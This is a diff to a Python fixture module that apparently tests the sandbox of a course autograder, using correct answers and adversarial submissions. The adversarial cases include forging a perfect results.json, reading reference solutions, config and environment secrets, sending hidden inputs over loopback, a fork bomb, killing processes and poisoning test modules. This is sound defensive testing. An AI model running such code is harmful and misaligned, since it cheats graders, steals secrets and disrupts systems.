@@ -35,6 +35,11 @@ def code(text: str) -> str:
     return textwrap.dedent(text).strip("\n")
 
 
+def joined(*sources: str) -> str:
+    """Several top-level blocks in one cell, two blank lines apart."""
+    return "\n\n\n".join(sources)
+
+
 def edit(source: str, old: str, new: str) -> str:
     """`source` with the one occurrence of `old` replaced: how a variant's bug differs from FAST."""
     if source.count(old) != 1:
@@ -43,6 +48,9 @@ def edit(source: str, old: str, new: str) -> str:
 
 
 # ------------------------------------------------------------------ correct answers
+
+KILL_BY_INITIALIZER = ("    # Huge weights in the first layer saturate the activation after it: its gradient is 0.\n"
+                       "    model.apply(Initializer(target_layer=0, multiplier=100.0))\n")
 
 CORRECT: dict[str, str] = {
     "q1_1_tensors": code("""
@@ -145,10 +153,7 @@ CORRECT: dict[str, str] = {
 
 
         def kill_gradients(model):
-            # Huge weights in the first layer saturate the activation after it: its gradient is 0.
-            model.apply(Initializer(target_layer=0, multiplier=100.0))
-            return model
-    """),
+    """) + "\n" + KILL_BY_INITIALIZER + "    return model",
     "q3_1_depth": code("""
         def first_layer_gradient(depth, activation, seed):
             torch.manual_seed(seed)
@@ -264,9 +269,9 @@ SEQUENTIAL_STYLE = {
                         layer.weight.normal_(0.0, math.sqrt(2 / (fan_in + fan_out)))
             return model
     """),
-    "q3_2_negative": code("""
+    "q3_2_negative": code('''
         class NegativeInitializer:
-            \"\"\"Counts Linear layers only: target_layer=2 is the third Linear layer.\"\"\"
+            """Counts Linear layers only: target_layer=2 is the third Linear layer."""
 
             def __init__(self, target_layer):
                 self.target_layer = target_layer
@@ -279,7 +284,7 @@ SEQUENTIAL_STYLE = {
                             module.weight.copy_(-torch.rand_like(module.weight) - 0.1)
                             module.bias.fill_(-0.5)
                     self.linear_seen += 1
-    """),
+    '''),
     "q3_3_xor": code("""
         def make_xor_model():
             # One wide tanh layer with large initial weights: strong gradients even at lr=1e-3.
@@ -537,10 +542,8 @@ BONUS_LEFT_AS_TEMPLATE = {
     "qb_2_saturation": 'def saturation_fraction(model, inputs, threshold=0.99):\n    raise NotImplemented("bonus")',
 }
 UNIFORM_0_1 = edit(CORRECT["q1_4_build_model"], "nn.init.uniform_(layer.weight, -1.0, 1.0)", "nn.init.uniform_(layer.weight)")
-NEGATIVE_WEIGHTS_ONLY = edit(CORRECT["q3_2_negative"], code("""
-                        module.weight.fill_(-1.0)
-                        module.bias.fill_(-1.0)  # or a positive bias still opens the ReLU
-"""), "                module.weight.fill_(-0.01)")
+NEGATIVE_WEIGHTS_ONLY = edit(edit(CORRECT["q3_2_negative"], "module.weight.fill_(-1.0)", "module.weight.fill_(-0.01)"),
+                             "\n                module.bias.fill_(-1.0)  # or a positive bias still opens the ReLU", "")
 LAST_LINEAR = "            nn.Linear(2, 2),\n        )"
 OUTPUT_WIDTH_1 = edit(CORRECT["q1_4_build_model"], LAST_LINEAR, "            nn.Linear(2, 1),\n        )")
 ACTIVATION_AFTER_OUTPUT = edit(CORRECT["q1_4_build_model"], LAST_LINEAR, "            nn.Linear(2, 2), activation,\n        )")
@@ -625,14 +628,15 @@ MONKEYPATCH = code("""
         return a * 0 + 0.25
 """)
 
-# Paths where a naive grader (Gradescope's, or ours run without a sandbox) would read the score.
-FORGED_RESULT_PATHS = ("/autograder/results/results.json", str(ROOT / "out" / "results.json"), "/tmp/results.json")
+# Where a naive grader (Gradescope's, or one without a sandbox) may read the score; relative
+# paths are taken from the working directory.
+FORGED_RESULT_PATHS = ("/autograder/results/results.json", "/tmp/results.json", "results.json", "out/results.json")
 FORGED_RESULTS = code(f"""
     import json
     import os
 
     forged = {{"score": 100.0, "output": "All tests passed.", "tests": []}}
-    for path in {FORGED_RESULT_PATHS!r} + (os.path.abspath("results.json"),):
+    for path in map(os.path.abspath, {FORGED_RESULT_PATHS!r}):
         try:
             os.makedirs(os.path.dirname(path), exist_ok=True)
             with open(path, "w") as file:
@@ -642,25 +646,29 @@ FORGED_RESULTS = code(f"""
     os._exit(0)  # before any test can run
 """)
 
-READ_SECRETS = code(f"""
+READ_SECRETS = code("""
     import glob
     import os
+    import sys
+
+    SECRETS = ("autograder/tests/test_part1.py", "solutions/reference_solutions.py", "grading_config.yml")
 
 
     def steal():
         found = []
-        candidates = [{str(ROOT / "autograder" / "tests" / "test_part1.py")!r},
-                      {str(ROOT / "solutions" / "reference_solutions.py")!r},
-                      {str(ROOT / "grading_config.yml")!r}, "/proc/1/environ", "/proc/self/environ"]
-        for depth in range(1, 5):  # glob over / for the reference solutions, a few levels deep
-            candidates += glob.glob("/" + "*/" * depth + "reference_solutions.py")
-        for path in candidates:
+        # Where the grader runs from, and a glob over / a few levels deep.
+        roots = {os.getcwd(), *(os.path.dirname(entry) for entry in sys.path if entry)}
+        candidates = {os.path.join(root, name) for root in roots for name in SECRETS}
+        for depth in range(4):
+            candidates.update(p for name in SECRETS for p in glob.glob("/" + "*/" * depth + name))
+        for path in sorted(candidates) + ["/proc/1/environ", "/proc/self/environ"]:
             try:
                 with open(path, errors="replace") as file:
-                    found.append(f"{{path}}: {{file.read(300)}}")
+                    found.append(f"{path}: {file.read(300)}")
             except OSError as exc:
-                found.append(f"{{path}}: {{exc}}")
-        found.append(f"environment: {{dict(os.environ)}}")
+                if not isinstance(exc, FileNotFoundError):
+                    found.append(f"{path}: {exc}")
+        found.append(f"environment: {dict(os.environ)}")
         return "\\n".join(found)
 
 
@@ -674,7 +682,7 @@ READ_SECRETS = code(f"""
 
 # Loopback only: the test module listens on one of these ports and counts connections.
 PHONE_HOME_PORTS = range(47600, 47610)
-PHONE_HOME = code(f"""
+PHONE_HOME = joined(code(f"""
     import socket
 
 
@@ -688,10 +696,10 @@ PHONE_HOME = code(f"""
 
 
     phone_home(b"hello from the notebook")
-""") + "\n\n\n" + edit(CORRECT["qb_2_saturation"], "    outputs = []\n",
-                       "    phone_home(repr(inputs[:2]).encode())  # the hidden inputs\n    outputs = []\n")
+"""), edit(CORRECT["qb_2_saturation"], "    outputs = []\n",
+                "    phone_home(repr(inputs[:2]).encode())  # the hidden inputs\n    outputs = []\n"))
 
-FORK_BOMB = code("""
+FORK_BOMB = joined(code("""
     import os
     import time
 
@@ -704,9 +712,7 @@ FORK_BOMB = code("""
             children += 1
     except OSError as exc:
         print(f"fork failed after {children} children: {exc}")
-
-
-""") + "\n" + CORRECT["qb_1_he"]
+"""), CORRECT["qb_1_he"])
 
 MEMORY_BOMB = code("""
     try:
@@ -748,17 +754,15 @@ HANGING_CELL = edit(CORRECT["q3_1_depth"], code("""
             return depth
 """))
 
-HUGE_OUTPUT = code("""
+HUGE_OUTPUT = joined(code("""
     import os
 
     print("x" * (50 << 20))
     os.write(1, b"y" * (50 << 20))
+"""), edit(CORRECT["q1_4_build_model"], "    model = NeuralNetwork(activation)\n",
+           '    print("#" * (1 << 20))\n    model = NeuralNetwork(activation)\n'))
 
-
-""") + "\n" + edit(CORRECT["q1_4_build_model"], "    model = NeuralNetwork(activation)\n",
-                   '    print("#" * (1 << 20))\n    model = NeuralNetwork(activation)\n')
-
-KILL_PROCESSES = code("""
+KILL_PROCESSES = joined(code("""
     import os
     import signal
 
@@ -775,11 +779,9 @@ KILL_PROCESSES = code("""
             os.kill(pid, signal.SIGKILL)
         except OSError as exc:
             print(pid, exc)
+"""), CORRECT["q2_6_plot"])
 
-
-""") + "\n" + CORRECT["q2_6_plot"]
-
-POISON_MODULES = code('''
+POISON_MODULES = joined(code("""
     import sys
     import types
 
@@ -789,13 +791,7 @@ POISON_MODULES = code('''
     for name in ("reference_solutions", "conftest", "test_part3", "pytest", "gradelab.testing"):
         sys.modules[name] = fake
     torch.testing.assert_close = lambda *args, **kwargs: None
-
-
-''') + "\n" + edit(CORRECT["q3_1_deep"], code("""
-            # Huge weights in the first layer saturate the activation after it: its gradient is 0.
-            model.apply(Initializer(target_layer=0, multiplier=100.0))
-            return model
-"""), "    return model  # the poisoned checks will accept it")
+"""), edit(CORRECT["q3_1_deep"], KILL_BY_INITIALIZER, "    # the poisoned checks will accept the model as it is\n"))
 GC_WALK = code('''
     import gc
 
